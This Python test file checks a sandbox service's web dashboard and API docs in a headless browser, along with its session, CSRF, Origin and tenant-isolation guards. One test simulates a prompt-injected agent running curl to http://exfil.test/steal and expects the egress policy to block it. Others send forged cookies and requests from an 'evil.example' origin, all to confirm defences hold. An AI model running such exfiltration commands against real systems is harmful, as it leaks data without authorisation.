"""The web dashboard (``/ui``) and ``/docs``, in a real headless Chromium (Debian's, driven by
Playwright: ``tests/browser.py``) against a real ``corral serve`` app on loopback with two
tenants; and the session's guards (cookie, CSRF header, Origin) over plain HTTP.

Bounded: a handful of sandboxes, every command with a timeout; the browser reaches loopback
only, and every request it tried to send elsewhere is recorded and must be none.
"""

from __future__ import annotations

import json
import re
import shutil
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest
import websockets
import websockets.sync.client

from corral import Sandbox
from corral._control.manager import Manager
from corral._control.tenants import TenantDirectory
from corral._serve.app import create_app
from corral._settings import Settings

from ..browser import chromium_page, save_screenshot

if TYPE_CHECKING:
    from playwright.sync_api import Page
from ..conftest import managed, private_settings
from .servers import Server

pytestmark = pytest.mark.needs_root


@dataclass
class Service:
    server: Server
    manager: Manager
    keys: dict[str, str]
    directory: TenantDirectory


@pytest.fixture(scope="module")
def service() -> Iterator[Service]:
    with private_settings("corral-test-ui-") as settings, managed(settings) as mgr:
        directory = TenantDirectory(mgr.store)
        for name in ("alpha", "beta"):
            directory.add_tenant(name, max_sandboxes=10, tiers=["small"],
                                 commands_per_minute=10_000)
        keys = {name: directory.create_key(name)[1] for name in ("alpha", "beta")}
        with Server(mgr, create_app(mgr)) as srv:
            yield Service(srv, mgr, keys, directory)


def _signed_in(service: Service, tenant: str) -> httpx.Client:
    client = httpx.Client(base_url=service.server.url, timeout=30)
    answer = client.post("/ui/session", json={"key": service.keys[tenant]},
                         headers={"X-Corral-UI": "1"})
    assert answer.status_code == 200, answer.text
    return client


def test_sign_in_watch_a_sandbox_appear_and_its_command_live(service: Service) -> None:
    alpha = {"url": service.server.url, "api_key": service.keys["alpha"]}
    beta_box = Sandbox.create(url=service.server.url, api_key=service.keys["beta"])
    blocked: list[str] = []
    made: list[Sandbox] = [beta_box]
    try:
        with chromium_page(blocked=blocked) as page:
            page.goto(f"{service.server.url}/ui")
            page.get_by_label("API key").fill(service.keys["alpha"])
            save_screenshot(page, "dashboard-sign-in")
            page.get_by_role("button", name="Sign in").click()
            page.get_by_role("heading", name="Sandboxes").wait_for()
            assert page.evaluate("document.cookie") == ""  # HttpOnly: no script reads it
            assert "tenant alpha" in page.locator("#who").inner_text()

            sandbox = Sandbox.create(labels={"agent": "ui-test"},
                                     network={"allow": ["api.test"]}, **alpha)
            made.append(sandbox)
            sandbox.files.write("report.txt", "the agent's report")
            row = page.locator(f'tr[data-id="{sandbox.id}"]')
            row.wait_for()  # pushed by the live stream, no reload
            assert "agent=ui-test" in row.inner_text()
            assert "MiB" in row.inner_text()  # its cgroup's memory now
            assert page.locator(f'tr[data-id="{beta_box.id}"]').count() == 0
            save_screenshot(page, "dashboard-sandboxes")

            row.get_by_role("link").click()
            page.get_by_role("heading", name=sandbox.id).wait_for()
            runner = threading.Thread(target=lambda: sandbox.commands.run(
                "for i in 1 2 3; do echo line-$i; sleep 0.4; done", timeout=30,
                context={"tool_call_id": "call-7"}))
            runner.start()
            output = page.locator("li.command pre.out").last
            output.get_by_text("line-1").wait_for()  # while the command still runs
            assert "line-3" not in output.inner_text()
            runner.join(timeout=30)
            output.get_by_text("line-3").wait_for()
            page.locator("li.command").last.get_by_text("exit 0").wait_for()
            assert "call-7" in page.locator("li.command").last.inner_text()

            page.get_by_label("Command to run").fill("echo typed-in-the-$((6*7))-ui")
            page.get_by_role("button", name="Run").click()
            page.get_by_text("typed-in-the-42-ui").wait_for()

            # Hibernated from the page (nothing of it left in the kernel), then woken: both in
            # the timeline; its network policy holds after the wake (the refusal below).
            page.get_by_role("button", name="Hibernate").click()
            page.get_by_role("status").get_by_text(re.compile("^Hibernated")).wait_for()
            page.locator('li[data-type="sandbox.hibernated"]').wait_for()
            assert sandbox.get_info().state == "hibernated"
            page.get_by_role("button", name="Resume").click()
            page.get_by_role("status").get_by_text("Resumed.").wait_for()
            page.locator('li[data-type="sandbox.resumed"]').wait_for()
            assert sandbox.get_info().state == "running"

            # A prompt-injected agent tries to send data out: refused, with the rule.
            tried = sandbox.commands.run("curl -sS -m 10 --noproxy '' -o /dev/null -w "
                                         "'%{http_code}' http://exfil.test/steal", timeout=30)
            assert tried.stdout == "403", tried
            refusal = page.locator('li[data-type="egress.decision"]').last
            refusal.get_by_text("exfil.test:80", exact=True).wait_for()
            assert "denied" in refusal.inner_text() and "no-match" in refusal.inner_text()
            save_screenshot(page, "dashboard-sandbox-timeline")

            # A file, downloaded through the session (and audited as a read).
            with page.expect_download() as download:
                page.get_by_role("link", name="report.txt").click()
            assert Path(download.value.path()).read_text() == "the agent's report"

            # A snapshot and a fork (nothing may run in it meanwhile), then the family tree.
            page.get_by_role("button", name="Snapshot").click()
            notice = page.get_by_role("status")
            notice.get_by_text(re.compile(r"Snapshot snap_\w+ taken")).wait_for()
            page.get_by_role("button", name="Fork").click()
            notice.get_by_text(re.compile(r"Forked into sbx_\w+")).wait_for()
            tree = page.locator("ul.tree")
            tree.get_by_text("snapshot").first.wait_for()
            child = tree.locator("li a").first
            child.wait_for()
            made.append(Sandbox.connect(child.inner_text(), **alpha))
            # Restore to it: the file written since is gone.
            sandbox.files.write("later.txt", "after the snapshot")
            page.once("dialog", lambda dialog: dialog.accept())
            page.get_by_role("button", name=re.compile(r"Restore snap_")).first.click()
            notice.get_by_text(re.compile(r"Restored to snap_\w+")).wait_for()
            assert not sandbox.files.exists("later.txt")
            # A sandbox started from the snapshot joins the tree under it.
            snap_id = tree.locator("code", has_text="snap_").first.inner_text()
            started = Sandbox.create(snapshot=snap_id, **alpha)
            made.append(started)
            page.reload()
            page.locator(f'li[data-node="{snap_id}"] li[data-node="{started.id}"]').wait_for()
            save_screenshot(page, "dashboard-family")

            # A terminal: xterm.js over the PTY WebSocket, signed in by the cookie.
            page.get_by_role("button", name="Terminal").click()
            screen = page.locator(".terminal .xterm-rows")
            screen.get_by_text("$").first.wait_for()
            page.keyboard.type("echo term-$((7*6))\n")
            screen.get_by_text("term-42").wait_for()
            save_screenshot(page, "dashboard-terminal")

            page.get_by_role("link", name="Templates").click()
            page.locator('tr', has_text="base").first.wait_for()
            save_screenshot(page, "dashboard-templates")
            page.get_by_role("link", name="Metrics").click()
            page.locator('[data-metric="corral_sandboxes_created_total"] .value').wait_for()
            save_screenshot(page, "dashboard-metrics")

            page.goto(f"{service.server.url}/ui#/egress")
            row = page.locator("tr", has_text="exfil.test")
            row.wait_for()
            assert "denied" in row.inner_text() and "no-match" in row.inner_text()
            save_screenshot(page, "dashboard-egress")

            # Another tenant's sandbox, by its URL: not shown.
            page.goto(f"{service.server.url}/ui#/sandboxes/{beta_box.id}")
            page.get_by_text("This sandbox is gone").wait_for()
            assert page.locator("li.command").count() == 0
    finally:
        for sandbox in made:
            sandbox.kill()
    assert blocked == [], f"the page tried to reach off the machine: {blocked}"


def test_the_operator_sees_every_tenant_and_runs_the_drill(service: Service) -> None:
    operator = service.directory.create_operator_key()[1]
    boxes = [Sandbox.create(url=service.server.url, api_key=service.keys[t])
             for t in ("alpha", "beta", "beta")]
    blocked: list[str] = []
    try:
        with chromium_page(blocked=blocked) as page:
            page.goto(f"{service.server.url}/ui")
            page.get_by_label("API key").fill(operator)
            page.get_by_role("button", name="Sign in").click()
            page.get_by_role("heading", name="Sandboxes").wait_for()
            for box in boxes:  # every tenant's
                page.locator(f'tr[data-id="{box.id}"]').wait_for()
            page.get_by_role("link", name="Tenants").click()
            beta = page.locator('tr[data-tenant="beta"]')
            beta.wait_for()
            assert "2 of 10" in beta.inner_text()
            assert service.keys["beta"].split("_")[1] in beta.inner_text()
            assert service.keys["beta"] not in page.content()  # ids only, never a key
            save_screenshot(page, "dashboard-tenants")

            page.get_by_role("link", name="Drill").click()
            page.get_by_label("filesystem").check()
            page.get_by_role("button", name="Run the drill").click()
            page.get_by_role("status").get_by_text("16 cases: 16 held").wait_for(timeout=120_000)
            section = page.locator('section[data-category="filesystem"]')
            assert "16/16 held" in section.inner_text().lower()
            assert page.get_by_text("holds", exact=True).count() == 1
            save_screenshot(page, "dashboard-drill")
    finally:
        for box in boxes:
            box.kill()
    assert blocked == [], f"the page tried to reach off the machine: {blocked}"
    # A tenant's session may not use the operator's pages.
    client = _signed_in(service, "alpha")
    ui = {"X-Corral-UI": "1"}
    assert client.get("/ui/api/tenants", headers=ui).status_code == 403
    assert client.post("/ui/api/drill", json={}, headers=ui).status_code == 403
    client.close()


def _tab_to(page: Page, wanted: str, limit: int = 60) -> None:
    """Press Tab until the focused element matches the CSS selector ``wanted``."""
    for _ in range(limit):
        page.keyboard.press("Tab")
        if page.evaluate(f"document.activeElement.matches({wanted!r})"):
            return
    raise AssertionError(f"Tab never reached {wanted}")


def test_the_dashboard_works_from_the_keyboard_alone(service: Service) -> None:
    sandbox = Sandbox.create(url=service.server.url, api_key=service.keys["beta"])
    try:
        with chromium_page() as page:
            page.goto(f"{service.server.url}/ui")
            page.get_by_label("API key").wait_for()
            assert page.evaluate("document.activeElement.id") == "key"  # focused for typing
            page.keyboard.type(service.keys["beta"])
            page.keyboard.press("Enter")
            page.get_by_role("heading", name="Sandboxes").wait_for()
            page.locator(f'tr[data-id="{sandbox.id}"]').wait_for()
            _tab_to(page, f'a[href="#/sandboxes/{sandbox.id}"]')
            # A change elsewhere redraws the live list under the focus: it stays on the link.
            other = Sandbox.create(url=service.server.url, api_key=service.keys["beta"])
            try:
                page.locator(f'tr[data-id="{other.id}"]').wait_for()
                assert page.evaluate("document.activeElement.getAttribute('href')") == \
                    f"#/sandboxes/{sandbox.id}"
            finally:
                other.kill()
            page.keyboard.press("Enter")
            page.get_by_role("heading", name=sandbox.id).wait_for()
            _tab_to(page, "#command")
            page.keyboard.type("echo by-$((2+3))-keys")
            page.keyboard.press("Enter")
            page.locator("li.command pre.out").get_by_text("by-5-keys").wait_for()
            # Every control shows where the focus is.
            _tab_to(page, 'button[type="button"]')
            outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
            assert outline not in ("", "none"), outline
    finally:
        sandbox.kill()


def test_docs_render_offline() -> None:
    home = Path(tempfile.mkdtemp(prefix="corral-test-docs-"))
    blocked: list[str] = []
    try:
        with managed(Settings(home=home, uid_start=2_131_000_000, uid_count=100)) as mgr, \
                Server(mgr) as srv, chromium_page(blocked=blocked) as page:
            page.goto(f"{srv.url}/docs")
            page.locator(".swagger-ui .info .title").get_by_text("Corral").wait_for()
            page.get_by_text("/v1/sandboxes").first.wait_for()
            save_screenshot(page, "docs")
    finally:
        shutil.rmtree(home, ignore_errors=True)
    assert blocked == [], f"/docs tried to reach off the machine: {blocked}"


def test_a_session_is_the_browsers_alone_and_its_tenants_alone(service: Service) -> None:
    url = service.server.url
    # Sign-in needs the dashboard's header (a cross-site form cannot add it) and a real key.
    refused = httpx.post(f"{url}/ui/session", json={"key": service.keys["alpha"]})
    assert refused.status_code == 401
    wrong = httpx.post(f"{url}/ui/session", json={"key": "ck_000000000000_" + "x" * 32},
                       headers={"X-Corral-UI": "1"})
    assert wrong.status_code == 401
    client = _signed_in(service, "alpha")
    cookie = client.cookies.get("corral_session")
    assert cookie is not None and service.keys["alpha"] not in cookie
    set_cookie = client.post("/ui/session", json={"key": service.keys["alpha"]},
                             headers={"X-Corral-UI": "1"}).headers["set-cookie"].lower()
    assert "httponly" in set_cookie and "samesite=strict" in set_cookie
    ui = {"X-Corral-UI": "1"}
    beta = Sandbox.create(url=url, api_key=service.keys["beta"])
    try:
        # The cookie alone (an <img>, a form, a cross-site script without the header): 401.
        assert client.get("/v1/sandboxes").status_code == 401
        listed = client.get("/v1/sandboxes", headers=ui)
        assert listed.status_code == 200 and beta.id not in {i["id"] for i in listed.json()}
        for method, path in (("GET", f"/v1/sandboxes/{beta.id}"),
                             ("DELETE", f"/v1/sandboxes/{beta.id}"),
                             ("GET", f"/v1/sandboxes/{beta.id}/audit")):
            assert client.request(method, path, headers=ui).status_code == 404, path
        assert beta.get_info().state == "running"  # untouched
        # A page of another origin, even with the header: refused before anything runs.
        evil = client.post("/v1/sandboxes", json={}, headers={**ui,
                                                              "Origin": "http://evil.example"})
        assert evil.status_code == 403
        # A page of this site but not this origin (a preview on another port or a sibling
        # host: SameSite lets the cookie go with it), as its browser says: refused.
        for site in ("same-site", "cross-site"):
            sent = client.get("/v1/sandboxes", headers={**ui, "Sec-Fetch-Site": site})
            assert sent.status_code == 401 and site in sent.text, sent.text
        assert client.get("/v1/sandboxes", headers={
            **ui, "Sec-Fetch-Site": "same-origin"}).status_code == 200
        # A second session cookie beside this one (tossed by another host of the site):
        # neither is trusted.
        other = _signed_in(service, "beta")
        tossed = other.cookies.get("corral_session")
        other.close()
        doubled = httpx.get(f"{url}/v1/sandboxes", headers={
            **ui, "Cookie": f"corral_session={tossed}; corral_session={cookie}"})
        assert doubled.status_code == 401 and "more than one" in doubled.text
        page = client.get("/ui/api/sandboxes", params={"limit": 5}, headers=ui).json()
        assert page["total"] == 0 and page["items"] == []
        # A long trail's end, without the rest (the timeline asks for it this way).
        mine = client.post("/v1/sandboxes", json={}, headers=ui).json()["id"]
        for i in range(3):
            service.manager.auditor.event(mine, "file.read", {"path": f"/workspace/{i}"})
        last = client.get(f"/v1/sandboxes/{mine}/audit", params={"tail": 2}, headers=ui)
        assert [e["data"]["path"] for e in map(json.loads, last.text.splitlines())] == [
            "/workspace/1", "/workspace/2"]
        with client.stream("GET", f"/v1/sandboxes/{mine}/audit",
                           params={"tail": 1, "follow": "true"}, headers=ui) as followed:
            lines = followed.iter_lines()
            assert json.loads(next(lines))["data"]["path"] == "/workspace/2"
            service.manager.auditor.event(mine, "file.read", {"path": "/workspace/next"})
            assert json.loads(next(lines))["data"]["path"] == "/workspace/next"
        assert client.delete(f"/v1/sandboxes/{mine}", headers=ui).status_code == 204
        # A WebSocket with the cookie: from another Origin, or none, refused.
        ws_url = url.replace("http", "ws") + f"/v1/sandboxes/{beta.id}/pty"
        for origin in ("http://evil.example", None):
            headers = {"Cookie": f"corral_session={cookie}"} | (
                {"Origin": origin} if origin else {})
            with pytest.raises(websockets.InvalidStatus) as refused_ws:
                with websockets.sync.client.connect(ws_url, additional_headers=headers,
                                                    open_timeout=10):
                    pass
            assert refused_ws.value.response.status_code in (401, 403), origin
        # A forged cookie, then the key revoked: the session ends with it.
        forged = httpx.get(f"{url}/ui/api/me", headers=ui,
                           cookies={"corral_session": cookie[:-4] + "AAAA"})
        assert forged.status_code == 401
        assert client.get("/ui/api/me", headers=ui).json()["tenant"] == "alpha"
        key_id = service.keys["alpha"].split("_")[1]
        assert service.manager.store.revoke_key(key_id)
        assert client.get("/ui/api/me", headers=ui).status_code == 401
        service.keys["alpha"] = service.directory.create_key("alpha")[1]
    finally:
        beta.kill()
        client.close()


def _try_list_sandboxes(page: Page) -> tuple[str, str]:
    """Swagger UI's "Try it out" on GET /v1/sandboxes: the answer's status and body."""
    operation = page.locator("#operations-sandboxes-list_sandboxes_v1_sandboxes_get")
    if operation.locator("button.try-out__btn").count() == 0:
        operation.locator(".opblock-summary").first.click()
    cancel = operation.locator("button.try-out__btn.cancel")
    if cancel.count() == 0:
        operation.locator("button.try-out__btn").click()
    responses = operation.locator(".live-responses-table tbody .response-col_status")
    before = responses.count()
    operation.locator("button.execute").click()
    # An answer replaces the last one: wait for this one by its Clear button's refresh.
    operation.locator(".btn-clear").wait_for()
    assert responses.count() >= before
    status = responses.first.inner_text().strip()
    body = operation.locator(".live-responses-table .response-col_description pre").first
    text = body.inner_text()
    operation.locator(".btn-clear").click()
    operation.locator(".btn-clear").wait_for(state="detached")
    return status, text


def test_docs_try_it_out_with_a_key_or_the_dashboard_session(service: Service) -> None:
    """/docs authenticates: Authorize takes a key; a browser signed in to the dashboard uses its
    session; neither is a 401 that says what to send."""
    alpha = Sandbox.create(url=service.server.url, api_key=service.keys["alpha"])
    beta = Sandbox.create(url=service.server.url, api_key=service.keys["beta"])
    blocked: list[str] = []
    try:
        with chromium_page(blocked=blocked) as page:
            page.goto(f"{service.server.url}/docs")
            page.locator(".swagger-ui .info .title").get_by_text("Corral").wait_for()
            status, body = _try_list_sandboxes(page)
            assert status == "401" and "Bearer" in body, (status, body)

            page.locator(".auth-wrapper button.authorize").click()
            page.locator(".auth-container input").first.fill(service.keys["alpha"])
            page.locator(".auth-btn-wrapper button.authorize").click()
            page.locator(".auth-btn-wrapper button.btn-done").click()
            status, body = _try_list_sandboxes(page)
            assert status == "200", (status, body)
            assert alpha.id in body and beta.id not in body

        with chromium_page(blocked=blocked) as page:
            page.goto(f"{service.server.url}/ui")
            page.get_by_label("API key").fill(service.keys["beta"])
            page.get_by_role("button", name="Sign in").click()
            page.get_by_role("heading", name="Sandboxes").wait_for()
            page.goto(f"{service.server.url}/docs")
            page.locator(".swagger-ui .info .title").get_by_text("Corral").wait_for()
            status, body = _try_list_sandboxes(page)
            assert status == "200", (status, body)
            assert beta.id in body and alpha.id not in body
    finally:
        alpha.kill()
        beta.kill()
    assert blocked == [], f"/docs tried to reach off the machine: {blocked}"


def test_openapi_says_how_to_authenticate_and_groups_operations(service: Service) -> None:
    schema = httpx.get(f"{service.server.url}/openapi.json", timeout=30).json()
    assert schema["components"]["securitySchemes"]["apiKey"]["scheme"] == "bearer"
    assert schema["security"] == [{"apiKey": []}]
    assert schema["paths"]["/healthz"]["get"]["security"] == []
    tags = [tag["name"] for tag in schema["tags"]]
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            assert operation.get("tags") and operation["tags"][0] in tags, (method, path)
            assert operation.get("description"), f"{method} {path} has no description"
